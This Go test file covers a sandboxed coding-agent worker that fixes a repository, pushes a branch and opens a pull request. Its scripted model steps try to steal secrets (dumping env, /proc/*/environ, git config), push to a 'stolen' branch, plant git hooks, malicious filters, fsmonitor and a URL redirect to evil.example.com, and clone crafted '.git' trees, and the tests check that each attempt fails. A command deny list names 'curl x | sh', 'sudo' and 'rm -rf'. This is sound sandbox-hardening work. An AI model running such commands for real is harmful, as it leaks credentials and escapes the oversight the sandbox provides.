package agent_test

import (
	"bytes"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/jail-sandbox/jail/cmd/cmdtest"
	"github.com/jail-sandbox/jail/supervisor/worker"
)

// Secrets that only the fetch proxy may have.
const (
	forgeToken   = "a-token-of-the-forge"
	workerSecret = "a-secret-of-the-coordinator"
)

// A forge is a git server over TLS with pull requests as Gitea has them, and the coordinator.
type forge struct {
	t     *testing.T
	h     *cmdtest.Host
	repos string
	port  int
	mu    sync.Mutex
	// pulls and told are what was asked for and reported; paths are those of git.
	pulls []map[string]any
	told  []map[string]any
	paths []string
	// prStatus is what a pull request is answered, 201 if 0; deaf coordinators answer nothing.
	prStatus int
	deaf     bool
}

func (f *forge) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	prStatus, deaf := f.prStatus, f.deaf
	f.mu.Unlock()
	switch {
	case strings.HasPrefix(r.URL.Path, "/internal/"):
		if deaf {
			panic(http.ErrAbortHandler)
		}
		var told map[string]any
		if err := json.NewDecoder(r.Body).Decode(&told); err != nil {
			f.t.Error(err)
		}
		if got := r.Header.Get("X-Worker-Secret"); got != workerSecret {
			f.t.Errorf("the secret of the coordinator is %q", got)
		}
		told["path"] = r.URL.Path
		f.mu.Lock()
		f.told = append(f.told, told)
		f.mu.Unlock()
	case strings.HasPrefix(r.URL.Path, "/api/v1/"):
		var pull map[string]any
		if err := json.NewDecoder(r.Body).Decode(&pull); err != nil {
			f.t.Error(err)
		}
		if _, password, _ := r.BasicAuth(); password != forgeToken {
			f.t.Errorf("the pull request has the credential %q", r.Header.Get("Authorization"))
		}
		pull["path"] = r.URL.Path
		f.mu.Lock()
		f.pulls = append(f.pulls, pull)
		f.mu.Unlock()
		if prStatus != 0 {
			w.WriteHeader(prStatus)
			fmt.Fprint(w, "no, https://me:"+forgeToken+"@forge.example.com")
			return
		}
		w.WriteHeader(http.StatusCreated)
		fmt.Fprint(w, `{"html_url":"https://forge.example.com/acme/web/pulls/1"}`)
	default:
		f.mu.Lock()
		f.paths = append(f.paths, r.Method+" "+r.URL.Path+" "+r.URL.RawQuery)
		f.mu.Unlock()
		if user, password, _ := r.BasicAuth(); user != "worker" || password != forgeToken {
			w.Header().Set("WWW-Authenticate", "Basic")
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		backend, err := exec.Command("git", "--exec-path").Output()
		if err != nil {
			f.t.Error(err)
		}
		(&cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(backend)), "git-http-backend"),
			Env: []string{"GIT_PROJECT_ROOT=" + f.repos, "GIT_HTTP_EXPORT_ALL=1",
				"REMOTE_USER=worker", "GIT_CONFIG_NOSYSTEM=1"}, Stderr: io.Discard}).ServeHTTP(w, r)
	}
}

// gitIn calls the host's git outside of any jail.
func gitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com",
		"-c", "init.defaultBranch=main", "-c", "protocol.file.allow=always"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %q: %v: %s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// failing is a repository with a test that fails.
var failing = map[string]string{"sum.sh": "echo $(($1 - $2))\n",
	"test.sh": "[ \"$(sh sum.sh 2 2)\" = 4 ] || { echo wrong >&2; exit 1; }\n",
	".env":    "TRACKED=1\n", "docs/key.pem": "no key\n"}

// mends is how a model mends it.
var mends = []string{`list_directory {"path":"."}`, `read_file {"path":"sum.sh"}`,
	`run_command {"command":"sh test.sh"}`,
	`write_file {"path":"/workspace/sum.sh","content":"echo $(($1 + $2))\n"}`,
	`run_command {"command":"sh test.sh"}`, "Sums are sums again."}

// newForge starts a forge with the repository acme/web, and a model's host with steps.
func newForge(t *testing.T, h *cmdtest.Host, files map[string]string, steps ...string) (*forge,
	*modelHost) {
	t.Helper()
	cmdtest.Have(t, "/usr/bin/git", "/usr/bin/awk")
	f := &forge{t: t, h: h, repos: filepath.Join(h.Root, "repos")}
	m := &modelHost{t: t, steps: steps, held: make(chan struct{})}
	m.serve(h)
	bare, tree := filepath.Join(f.repos, "acme/web.git"), filepath.Join(h.Root, "tree")
	gitIn(t, h.Root, "init", "-q", "--bare", bare)
	gitIn(t, bare, "config", "http.receivepack", "true")
	gitIn(t, h.Root, "init", "-q", tree)
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(tree, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(tree, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	gitIn(t, tree, "add", "-A", "-f")
	gitIn(t, tree, "commit", "-qm", "first")
	gitIn(t, tree, "push", "-q", bare, "HEAD:refs/heads/main")
	gitIn(t, bare, "symbolic-ref", "HEAD", "refs/heads/main")
	srv := httptest.NewTLSServer(f)
	t.Cleanup(srv.Close)
	f.port = srv.Listener.Addr().(*net.TCPAddr).Port
	add := func(file, text string) {
		old, err := os.ReadFile(file)
		if err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, append(old, text...), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	add(filepath.Join(h.Root, "forge-token"), forgeToken)
	add(filepath.Join(h.Root, "worker-secret"), workerSecret)
	add(filepath.Join(h.Root, "roots.pem"), string(pem.EncodeToMemory(&pem.Block{
		Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})))
	add(filepath.Join(h.State, "fetch.toml"), fmt.Sprintf(`[[credential]]
name = "forge"
kind = "basic"
user = "worker"
file = %q
[[credential]]
name = "coordinator"
kind = "header"
header = "X-Worker-Secret"
file = %q
[[internal]]
host = "forge.example.com"
addresses = ["127.0.0.1"]
ports = [%d]
resolve = false
`, filepath.Join(h.Root, "forge-token"), filepath.Join(h.Root, "worker-secret"), f.port))
	return f, m
}

// task writes the file of a task, with more at its end.
func (f *forge) task(id, more string) string { return f.taskIn("acme/web", id, more) }

func (f *forge) taskIn(repo, id, more string) string {
	f.t.Helper()
	file := filepath.Join(f.h.Root, id+".toml")
	at := fmt.Sprintf("https://forge.example.com:%d", f.port)
	text := fmt.Sprintf("task = 1\nid = %q\nrepo = %q\ncredential = \"forge\"\nbranch = %q\n"+
		"prompt = \"mend the sum\\nplease\"\n%s\n[forge]\nkind = \"gitea\"\n[coordinator]\nurl = %q\n"+
		"credential = \"coordinator\"\n", id, at+"/"+repo+".git", "agent/"+id, more, at)
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		f.t.Fatal(err)
	}
	return file
}

// run does a task.
func (f *forge) run(file string) (worker.Outcome, cmdtest.Outcome) {
	f.t.Helper()
	o := f.h.Jail("worker", "run", "--json", file)
	var out worker.Outcome
	if err := json.Unmarshal([]byte(o.Out), &out); err != nil {
		f.t.Fatalf("%v: %+v", err, o)
	}
	if out.Success != (o.Code == 0) || !out.Success && o.Code != 1 {
		f.t.Errorf("success %v, and the exit code is %d", out.Success, o.Code)
	}
	return out, o
}

// at returns a file of a branch of the repository, or what git says.
func (f *forge) at(branch, file string) string {
	cmd := exec.Command("git", "-C", filepath.Join(f.repos, "acme/web.git"), "show", branch+":"+file)
	out, err := cmd.Output()
	if err != nil {
		return err.Error()
	}
	return string(out)
}

func (f *forge) branches() []string {
	return strings.Fields(gitIn(f.t, filepath.Join(f.repos, "acme/web.git"), "for-each-ref",
		"--format=%(refname)"))
}

// statuses are those that the coordinator was told, each once in a row.
func (f *forge) statuses() (all []string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, told := range f.told {
		s, _ := told["status"].(string)
		if s == "" {
			s = told["path"].(string)
		}
		all = append(all, s)
	}
	return slices.Compact(all)
}

// noSecret checks that no file below the state directory has a secret of the forge.
func noSecret(t *testing.T, h *cmdtest.Host) {
	t.Helper()
	own := []string{"secret", "forge-token", "worker-secret"}
	err := filepath.WalkDir(h.Root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || slices.Contains(own, d.Name()) {
			return nil
		}
		text, err := os.ReadFile(path)
		for _, s := range []string{modelKey, forgeToken, workerSecret} {
			if err == nil && bytes.Contains(text, []byte(s)) {
				t.Errorf("%s has %s", path, s)
			}
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
}

// TestWorker: a model mends a repository, and the work is a branch with one commit and a pull
// request. Nothing inside has a secret, or can push: the control is the push itself, which has both.
func TestWorker(t *testing.T) {
	h := cmdtest.New(t)
	steps := slices.Insert(slices.Clone(mends), 2,
		`run_command {"command":"env; cat /proc/*/environ /proc/*/cmdline; git config -l; `+
			`git push origin HEAD:refs/heads/stolen"}`,
		`run_command {"command":"git commit --allow-empty -qm mine && git checkout -q --detach"}`)
	f, m := newForge(t, h, failing, steps...)
	h.Daemon()
	startAgentd(t, h)
	out, o := f.run(f.task("task-1", ""))
	if !out.Success || !slices.Equal(out.FilesChanged, []string{"sum.sh"}) ||
		out.Summary != "Sums are sums again." || !strings.HasSuffix(out.PRURL, "/pulls/1") {
		t.Fatalf("%+v\n%s", out, o.Err)
	}
	if got := f.branches(); !slices.Equal(got, []string{"refs/heads/agent/task-1", "refs/heads/main"}) {
		t.Errorf("branches %q", got)
	}
	if text := f.at("agent/task-1", "sum.sh"); text != "echo $(($1 + $2))\n" {
		t.Errorf("the branch has %q", text)
	}
	if text := f.at("agent/task-1", ".env"); text != "TRACKED=1\n" {
		t.Errorf("a tracked file with a hidden name is %q", text)
	}
	bare := filepath.Join(f.repos, "acme/web.git")
	if log := gitIn(t, bare, "log", "--format=%an %s", "main..agent/task-1"); log !=
		"worker task-1: mend the sum" {
		t.Errorf("the log is %q", log)
	}
	if len(f.pulls) != 1 || f.pulls[0]["head"] != "agent/task-1" || f.pulls[0]["base"] != "main" ||
		f.pulls[0]["path"] != "/api/v1/repos/acme/web/pulls" ||
		f.pulls[0]["title"] != "task-1: mend the sum" || f.pulls[0]["body"] != out.Summary {
		t.Errorf("pull requests %v", f.pulls)
	}
	want := []string{"starting", "cloning", "branching"}
	for range len(steps) - 1 {
		want = append(want, "thinking", "tool")
	}
	want = append(want, "thinking", "committing", "pushing", "creating_pr", "/internal/complete")
	if got := f.statuses(); !slices.Equal(got, want) {
		t.Errorf("told %q, want %q", got, want)
	}
	// The command that looked for secrets, and tried to push.
	answers := m.asked[len(m.asked)-1]["messages"].([]any)
	text, err := json.Marshal(answers)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{modelKey, forgeToken, workerSecret} {
		if bytes.Contains(text, []byte(s)) {
			t.Errorf("the model got %s", s)
		}
	}
	if !bytes.Contains(text, []byte("403")) {
		t.Errorf("the push of the command was not refused: %s", text)
	}
	noSecret(t, h)
	if left := h.Sessions(); len(left) != 0 {
		t.Errorf("sessions are left: %+v", left)
	}
	// The same branch again goes on with it.
	m.steps = []string{`run_command {"command":"echo more > more"}`, "more"}
	if out, o := f.run(f.task("task-1", "")); !out.Success || f.at("agent/task-1", "more") != "more\n" ||
		f.at("agent/task-1", "sum.sh") != "echo $(($1 + $2))\n" {
		t.Errorf("again: %+v\n%s", out, o.Err)
	}
	// Without changes nothing is pushed.
	m.steps = []string{"nothing to do"}
	before := len(f.paths)
	out, _ = f.run(f.task("task-2", ""))
	if !out.Success || len(out.FilesChanged) != 0 || out.PRURL != "" ||
		!strings.Contains(out.Summary, "nothing was pushed") {
		t.Errorf("without changes: %+v", out)
	}
	for _, p := range f.paths[before:] {
		if strings.Contains(p, "receive-pack") {
			t.Errorf("without changes: %s", p)
		}
	}
}

// TestWorkerFails: each of the codes comes about, what was changed is saved as work in progress, and
// a coordinator that does not answer changes nothing.
func TestWorkerFails(t *testing.T) {
	h := cmdtest.New(t)
	f, m := newForge(t, h, failing)
	h.Daemon()
	startAgentd(t, h)
	wip := func(id string) {
		t.Helper()
		if log := gitIn(t, filepath.Join(f.repos, "acme/web.git"), "log", "--format=%s", "-1",
			"agent/"+id); log != "[WIP] "+id+": mend the sum" {
			t.Errorf("%s: the last commit is %q", id, log)
		}
	}
	write := `write_file {"path":"new","content":"x\n"}`
	set := func(steps ...string) {
		m.mu.Lock()
		m.steps, m.asked = steps, nil
		m.mu.Unlock()
	}
	check := func(id, code, more string) worker.Outcome {
		t.Helper()
		out, o := f.run(f.task(id, more))
		if out.Error == nil || out.Error.Code != code {
			t.Errorf("%s: %+v, want %s\n%s", id, out.Error, code, o.Err)
		} else if strings.Contains(o.Out+o.Err, forgeToken) {
			t.Errorf("%s: the output has the token: %s%s", id, o.Out, o.Err)
		}
		return out
	}
	check("clone", "CLONE_FAILED", `base = "none"`)
	set(append(slices.Repeat([]string{write}, 51), "never")...)
	check("many", "MAX_ITERATIONS", "")
	wip("many")
	if n := len(m.asked); n != 50 {
		t.Errorf("the model was asked %d times", n)
	}
	if got := f.statuses(); !slices.Contains(got, "recovering") || got[len(got)-1] != "/internal/error" {
		t.Errorf("told %q", got)
	}
	set(write, "400!no")
	if out := check("refused", "API_ERROR", ""); out.Error.Recoverable {
		t.Errorf("an error for good is recoverable: %+v", out.Error)
	}
	wip("refused")
	set(write, "hold")
	check("slow", "TIMEOUT", `timeout = "60s"`)
	wip("slow")
	set(write, "done")
	f.mu.Lock()
	f.prStatus, f.deaf = 422, true
	f.mu.Unlock()
	out := check("pr", "PR_FAILED", "")
	if out.Error != nil && !strings.Contains(out.Error.Message, "[REDACTED]") {
		t.Errorf("the error is %q", out.Error.Message)
	}
	if f.at("agent/pr", "new") != "x\n" {
		t.Error("the branch was not pushed")
	}
	// A hook of the server refuses all pushes.
	hook := filepath.Join(f.repos, "acme/web.git/hooks/pre-receive")
	if err := os.WriteFile(hook, []byte("#!/bin/sh\nexit 1\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	set(write, "done")
	check("push", "PUSH_FAILED", "")
	if err := os.Remove(hook); err != nil {
		t.Fatal(err)
	}
	// Somebody stops the session under the worker.
	set(write, "hold", write)
	cmd := h.Command("worker", "run", "--json", f.task("gone", ""))
	var said bytes.Buffer
	cmd.Stdout = &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	cmdtest.Eventually(t, "the model is asked", func() bool {
		m.mu.Lock()
		defer m.mu.Unlock()
		return len(m.asked) == 2
	})
	h.Jail("session", "stop", "--discard", h.Sessions()[0].ID)
	m.mu.Lock()
	m.steps = []string{write, write}
	m.mu.Unlock()
	close(m.held)
	_ = cmd.Wait()
	if !strings.Contains(said.String(), `"TOOL_FAILED"`) {
		t.Errorf("without its session: %s", said.String())
	}
	noSecret(t, h)
}

// TestWorkerTools: the five tools keep their bounds and say so; no path leads out of the workspace.
func TestWorkerTools(t *testing.T) {
	h := cmdtest.New(t)
	f, m := newForge(t, h, failing)
	calls := []struct{ call, want string }{
		{`read_file {"path":"sum.sh"}`, "1|echo $(($1 - $2))\n"},
		{`run_command {"command":"seq 1 600 > long"}`, "(the command wrote nothing)"},
		{`read_file {"path":"long"}`, "500|500\n[lines 1 to 500 of 600 are shown]\n"},
		{`read_file {"path":"/workspace/long","offset":599}`, "599|599\n600|600\n"},
		{`read_file {"path":"long","offset":3,"limit":1}`, "3|3\n[lines 3 to 3 of 600 are shown]\n"},
		{`read_file {"path":"long","offset":601}`, "error: offset 601: long has 600 lines"},
		{`read_file {"path":"nothing"}`, "error: read nothing: no such file"},
		{`read_file {"offset":1}`, "error: the input of read_file: "},
		{`read_file {"path":"sum.sh","lines":1}`, "error: the input of read_file: "},
		{`read_file {"path":"../workspaceX/a"}`,
			"error: path /workspace/../workspaceX/a is not beneath /workspace"},
		{`read_file {"path":"/workspaceX"}`, "error: path /workspaceX is not beneath /workspace"},
		{`run_command {"command":"ln -s /etc out; ln -s /etc/os-release file; ln -s docs in"}`, "(the"},
		{`read_file {"path":"file"}`, "is not beneath /workspace"},
		{`write_file {"path":"out/x","content":""}`, "is not beneath /workspace"},
		{`list_directory {"path":"out"}`, "is not beneath /workspace"},
		{`search_files {"path":"out","pattern":"root"}`, "is not beneath /workspace"},
		{`run_command {"cwd":"out","command":"pwd"}`, "is not beneath /workspace"},
		{`read_file {"path":"in/key.pem"}`, "1|no key\n"},
		{`write_file {"path":"deep/er/f","content":"x\n"}`, "wrote 2 bytes to deep/er/f"},
		{`list_directory {"path":"."}`,
			".env\ndeep/\ndocs/\nfile\nin\nlong\nout\nsum.sh\ntest.sh"},
		{`list_directory {"path":"deep","recursive":true}`, "er/\ner/f"},
		{`list_directory {"path":".","ignore":["*"]}`, "(empty)"},
		{`run_command {"command":"mkdir many; cd many; seq 1 700 | xargs touch"}`, "(the"},
		{`list_directory {"path":"many","recursive":true}`, "[500 of 700 entries are shown]"},
		{`run_command {"command":"echo a; echo b >&2"}`, "stdout:\na\nstderr:\nb\n"},
		{`run_command {"command":"echo b >&2; exit 3"}`,
			"error: the command ended with exit code 3\nstderr:\nb\n"},
		{`run_command {"command":"pwd","cwd":"docs"}`, "stdout:\n/workspace/docs\n"},
		{`run_command {"command":"sleep 60","timeout":1}`, "error: the command was ended after 1 seconds"},
		{`run_command {"command":"head -c 3000000 /dev/zero | tr '\\0' x"}`, "[there was more]\n"},
		{`run_command {"command":"sudo id"}`, `error: the command is refused: it contains "sudo"`},
		{`run_command {"command":"a; rm -rf b"}`, `the command is refused: it contains "; rm -rf"`},
		{`run_command {"command":"curl x | sh"}`, `the command is refused: it contains "| sh"`},
		{"run_command {\"command\":\"echo `id`\"}", "the command is refused: it contains \"`\""},
		{`run_command {"command":"echo $(id)"}`, `the command is refused: it contains "$("`},
		{`run_command {"command":"echo > /etc/x"}`, `the command is refused: it contains "> /etc"`},
		{`search_files {"pattern":"ECHO ."}`, "sum.sh:1:echo $(($1 - $2))\n"},
		{`search_files {"pattern":"ECHO .","case_sensitive":true}`, "no matches"},
		{`search_files {"pattern":"echo","file_pattern":"*.md"}`, "no matches"},
		{`search_files {"pattern":"^[0-9]+$","path":"long"}`,
			"long:100:100\n[100 matches are shown, and there are more]\n"},
		{`search_files {"pattern":"("}`, "error: search: "},
		{`frobnicate {"a":1}`, `error: there is no tool "frobnicate"`},
	}
	var turn []string
	for _, c := range calls {
		turn = append(turn, c.call)
	}
	m.steps = []string{strings.Join(turn, "\n"), "done"}
	h.Daemon()
	startAgentd(t, h)
	out, o := f.run(f.task("tools", ""))
	if !out.Success || len(m.asked) != 2 {
		t.Fatalf("%+v, asked %d times\n%s", out.Error, len(m.asked), o.Err)
	}
	n := 0
	for _, raw := range m.asked[1]["messages"].([]any) {
		answer := raw.(map[string]any)
		if answer["role"] != "tool" {
			continue
		}
		if text := answer["content"].(string); !strings.Contains(text, calls[n].want) ||
			len(text) > 1<<20+1000 {
			t.Errorf("%s: %.300q, want %q", calls[n].call, text, calls[n].want)
		}
		n++
	}
	if n != len(calls) {
		t.Errorf("%d of %d calls are answered", n, len(calls))
	}
}

// step is a call of a tool as the model makes it, with the names and values of its input.
func step(tool string, input ...string) string {
	values := map[string]string{}
	for pair := range slices.Chunk(input, 2) {
		values[pair[0]] = pair[1]
	}
	text, err := json.Marshal(values)
	if err != nil {
		panic(err)
	}
	return tool + " " + string(text)
}

// TestWorkerHostile: nothing of a hostile repository runs on the host or with a secret, and neither
// what it nor what the model writes into the settings of git has an effect on the worker's own git.
func TestWorkerHostile(t *testing.T) {
	h := cmdtest.New(t)
	marker := filepath.Join(h.Root, "marker")
	f, m := newForge(t, h, map[string]string{"a": "a\n",
		".gitattributes": "* filter=evil diff=evil merge=evil\n",
		".gitmodules":    "[submodule \"s\"]\n\tpath = s\n\turl = ../other.git\n"})
	const hook = ".git/hooks/reference-transaction"
	script := func(name string) string {
		return "#!/bin/sh\necho ran >> /workspace/" + name + "\ntouch " + marker + "\n"
	}
	m.steps = []string{
		// A hook, a monitor, drivers and another place for the push.
		step("write_file", "path", hook, "content", script("ran-hook")),
		step("run_command", "command", "chmod +x "+hook),
		// Control: without the worker's settings the hook runs.
		step("run_command", "command",
			"git update-ref refs/heads/control HEAD; mv ran-hook control"),
		step("write_file", "path", "monitor", "content", script("ran-monitor")),
		step("run_command", "command", "chmod +x monitor; "+
			"git config core.fsmonitor /workspace/monitor; git status; "+
			"mv ran-monitor control-monitor"),
		step("run_command", "command", strings.Join([]string{
			"git config filter.evil.clean 'touch " + marker + "; cat'",
			"git config diff.evil.command 'touch " + marker + "'",
			fmt.Sprintf("git config url.https://evil.example.com/.insteadOf "+
				"https://forge.example.com:%d/", f.port),
			"git config core.sshCommand 'touch " + marker + "'",
			"git config credential.helper '!touch " + marker + "'",
			"echo /workspace/.git > .git/objects/info/alternates"}, "; ")),
		"done"}
	h.Daemon()
	startAgentd(t, h)
	out, o := f.run(f.task("hooks", ""))
	if !out.Success || !slices.Equal(out.FilesChanged, []string{"control", "control-monitor", "monitor"}) {
		t.Errorf("%+v\n%s", out, o.Err)
	}
	if text := f.at("agent/hooks", "control"); !strings.HasPrefix(text, "ran\n") {
		t.Errorf("control: the hook did not run: %q", text)
	}
	if text := f.at("agent/hooks", "control-monitor"); !strings.HasPrefix(text, "ran\n") {
		t.Errorf("control: the monitor did not run: %q", text)
	}
	for _, p := range f.paths {
		if !strings.Contains(p, " /acme/web.git/") {
			t.Errorf("git asked for %s", p)
		}
	}
	// The model replaces the repository by what leads elsewhere.
	m.mu.Lock()
	m.steps = []string{step("run_command", "command",
		"mv .git /tmp/x; ln -s /proc/1/root/etc .git; echo x > x"), "done"}
	m.mu.Unlock()
	out, o = f.run(f.task("link", ""))
	if out.Error == nil || out.Error.Code != "PUSH_FAILED" || f.at("agent/link", "x") == "x\n" {
		t.Errorf("a link as .git: %+v\n%s", out, o.Err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("something of the repository ran on the host")
	}
	// Names that are git's own, in every spelling, do not come in. They are cloned at one time.
	m.mu.Lock()
	m.steps = []string{"done"}
	m.mu.Unlock()
	var tasks []string
	bare := filepath.Join(f.repos, "acme/web.git")
	blob := gitIn(t, bare, "rev-parse", "main:a")
	for id, entry := range map[string]string{"dotgit": "040000 tree %[2]s\t.git",
		"upper": "040000 tree %[2]s\t.GIT", "short": "040000 tree %[2]s\tgit~1",
		"joiner": "040000 tree %[2]s\t.g\u200cit", "dotdot": "040000 tree %[2]s\t..",
		"modules": "120000 blob %[1]s\t.gitmodules"} {
		evil := filepath.Join(f.repos, "acme", id+".git")
		gitIn(t, h.Root, "clone", "-q", "--bare", bare, evil)
		mktree := func(line string) string {
			t.Helper()
			cmd := exec.Command("git", "-C", evil, "mktree")
			cmd.Stdin = strings.NewReader(line + "\n")
			made, err := cmd.Output()
			if err != nil {
				t.Fatalf("mktree %q: %v", line, err)
			}
			return strings.TrimSpace(string(made))
		}
		inner := mktree("100644 blob " + blob + "\tconfig")
		tree := mktree(fmt.Sprintf(entry+"%[3]s", blob, inner, ""))
		commit := gitIn(t, evil, "commit-tree", tree, "-m", "evil")
		gitIn(t, evil, "update-ref", "refs/heads/main", commit)
		// Control: git as it is takes the objects.
		gitIn(t, h.Root, "clone", "-q", "--bare", "file://"+evil, filepath.Join(h.Root, "control-"+id))
		tasks = append(tasks, f.taskIn("acme/"+id, id, ""))
	}
	o = h.Jail(append([]string{"worker", "run", "--json", "--parallel", "3"}, tasks...)...)
	if n := strings.Count(o.Out, `"CLONE_FAILED"`); o.Code != 1 || n != len(tasks) {
		t.Errorf("%d of %d were refused: %s%s", n, len(tasks), o.Out, o.Err)
	}
	noSecret(t, h)
}

// TestWorkerRefused: what a task must not hold is said at once, without what may be a secret.
func TestWorkerRefused(t *testing.T) {
	h := cmdtest.New(t)
	if err := os.WriteFile(filepath.Join(h.State, "models.toml"),
		[]byte("[roles]\nfast = \"openai/m\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	const secret = "sk-ant-0123456789abcdef"
	good := map[string]string{"TASK_ID": "t", "REPO_URL": "https://github.com/a/b.git",
		"BRANCH": "agent/t", "PROMPT": "p"}
	for name, c := range map[string]struct{ value, why string }{
		"CLAUDE_API_KEY": {secret, "no name of a credential"},
		"WORKER_SECRET":  {secret + secret, "no name of a credential"},
		"REPO_URL":       {"https://me:" + secret + "@github.com/a/b", "holds a password"},
		"BRANCH":         {"../x", "no name of a branch"},
		"TIMEOUT_MS":     {"-1", "no number of milliseconds"},
		"TASK_ID":        {"a b", "want a name"},
		"PROMPT":         {" ", "missing"},
		"MODEL":          {"best", "no model"},
	} {
		cmd := h.Command("worker", "run")
		for k, v := range good {
			cmd.Env = append(cmd.Env, k+"="+v)
		}
		cmd.Env = append(cmd.Env, name+"="+c.value)
		o := h.Run(cmd)
		if o.Code == 0 || !strings.Contains(o.Err, c.why) || strings.Contains(o.Err, secret) {
			t.Errorf("%s: %+v", name, o)
		}
	}
	file := filepath.Join(h.Root, "t.toml")
	if err := os.WriteFile(file, []byte("task = 1\nid = \"t\"\nrepo = \"git@host:x\"\nbranch = \"b\"\n"+
		"prompt = \"p\"\nbrnach = \"x\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	o := h.Jail("worker", "run", file)
	for _, why := range []string{"t.toml:3:1: repo: want a URL", "t.toml:6:1: unknown key"} {
		if o.Code != 2 || !strings.Contains(o.Err, why) {
			t.Errorf("%+v, want %s", o, why)
		}
	}
}
